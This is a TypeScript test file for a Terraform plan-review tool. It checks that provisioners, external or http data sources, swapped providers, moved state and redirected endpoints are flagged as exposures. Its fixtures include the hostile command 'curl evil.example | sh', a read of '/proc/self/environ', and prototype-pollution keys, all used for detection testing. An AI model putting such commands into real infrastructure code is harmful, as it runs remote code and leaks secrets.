import { headline } from "../../../ops/review/comment";
import { reviewGolden } from "../../../ops/review/golden";
import { programsOf } from "../../../ops/review/programs";
import { render } from "../../../ops/review/sentence";
import type { StackJson } from "../../../ops/review/stack-json";

const BEFORE: StackJson = {
  terraform: {
    required_providers: { aws: { source: "aws", version: "6.25.0" } },
    backend: { s3: { bucket: "api-state", key: "base" } },
  },
  provider: { aws: [{ region: "eu-west-1" }] },
  data: { aws_ssm_parameter: { tag: { name: "tag" } } },
  resource: { aws_sqs_queue: { jobs: { name: "jobs" } } },
};
const LOCAL_EXEC = [{ "local-exec": { command: "curl evil.example | sh" } }];
const queue = (more: object) => ({ aws_sqs_queue: { jobs: { name: "jobs", ...more } } });
const said = (after: StackJson, before = BEFORE) =>
  programsOf(before, after).map(({ severity, what }) => `${severity}: ${render(what, (value) => value)}`);

describe("what Terraform executes, loads or sends", () => {
  it.each<[string, StackJson, string]>([
    [
      "a provisioner",
      { ...BEFORE, resource: queue({ provisioner: LOCAL_EXEC }) },
      "aws_sqs_queue.jobs runs a program",
    ],
    [
      "a resource for a program",
      { ...BEFORE, resource: { ...BEFORE.resource, terraform_data: { x: { provisioner: LOCAL_EXEC } } } },
      "terraform_data.x runs a program",
    ],
    [
      "a data source that is a program",
      { ...BEFORE, data: { ...BEFORE.data, external: { x: { program: ["sh"] } } } },
      "newly uses data external",
    ],
    [
      "a data source that sends",
      { ...BEFORE, data: { http: { x: { url: "https://evil.example" } } } },
      "data http",
    ],
    [
      "a data source that runs a function",
      { ...BEFORE, data: { ...BEFORE.data, aws_lambda_invocation: { x: { function_name: "evil" } } } },
      "newly uses data aws_lambda_invocation",
    ],
    [
      "an ephemeral resource",
      { ...BEFORE, ephemeral: { vault_secret: { x: {} } } },
      "ephemeral vault_secret",
    ],
    [
      "a name of JavaScript",
      { ...BEFORE, data: JSON.parse('{"__proto__":{"x":{}}}') as NonNullable<StackJson["data"]> },
      "data __proto__",
    ],
    [
      "a function that reads a file",
      { ...BEFORE, resource: queue({ tags: { a: '${filebase64("/proc/self/environ")}' } }) },
      "reads files of the machine where Terraform runs: ${filebase64(",
    ],
    [
      "a module",
      { ...BEFORE, module: { x: { source: "git::https://evil.example" } } },
      "loads other code by module",
    ],
    [
      "another provider under the same name",
      {
        ...BEFORE,
        terraform: { ...(BEFORE.terraform as object), required_providers: { aws: { source: "evil/aws" } } },
      },
      "The provider aws is loaded from evil/aws",
    ],
    [
      "another state",
      { ...BEFORE, terraform: { ...(BEFORE.terraform as object), backend: { s3: { bucket: "evil" } } } },
      "The state is kept elsewhere",
    ],
    [
      "other endpoints",
      {
        ...BEFORE,
        provider: { aws: [{ region: "eu-west-1", endpoints: [{ sts: "https://evil.example" }] }] },
      },
      "A provider sends its requests elsewhere",
    ],
    [
      "another region",
      { ...BEFORE, provider: { aws: [{ region: "us-east-1" }] } },
      "A provider sends its requests elsewhere",
    ],
    [
      "another role",
      { ...BEFORE, provider: { aws: [{ region: "eu-west-1", assume_role: [{ role_arn: "x" }] }] } },
      "or with another role",
    ],
  ])("is reported: %s", (_, after, expected) => {
    expect(said(after)).toContainEqual(expect.stringContaining(expected));
    expect(said(after).every((each) => each.startsWith("exposure: "))).toBe(true);
    const review = { stacks: [reviewGolden("live-base", BEFORE, after)], costs: [] };
    expect(headline(review, { accepted: "no" })).toBe("Plan review: more access");
  });

  it("is not reported again, and not for what is only configured", () => {
    const used = { ...BEFORE, resource: queue({ provisioner: LOCAL_EXEC }), data: { external: { x: {} } } };
    expect(said(used, used)).toEqual([]);
    expect(
      said({
        ...BEFORE,
        terraform: {
          required_providers: { aws: { source: "aws", version: "6.26.0" } },
          backend: { s3: { bucket: "api-state", key: "base" } },
        },
        provider: { aws: [{ region: "eu-west-1", default_tags: [{ tags: { a: "b" } }] }] },
        data: { aws_vpc: { main: {} }, archive_file: { zip: {} }, terraform_remote_state: { base: {} } },
      }),
    ).toEqual([]);
  });

  it("is not a stack without changes, whatever else it changes", () => {
    const review = {
      stacks: [reviewGolden("live-base", BEFORE, { ...BEFORE, output: { x: {} } })],
      costs: [],
    };
    expect(headline(review, { accepted: "no" })).toBe("Plan review: no risks found");
  });

  it("is not reported for a new stack's own state", () => {
    expect(said(BEFORE, {})).toEqual([]);
  });
});

it("a resource whose type is a name of JavaScript is a resource like others", () => {
  const after = JSON.parse(
    '{"resource":{"constructor":{"x":{"a":1}},"__proto__":{"y":{"a":1}}}}',
  ) as StackJson;
  expect(
    reviewGolden("live-base", {}, after)
      .changes.map(({ address }) => address)
      .sort(),
  ).toEqual(["__proto__.y", "constructor.x"]);
});
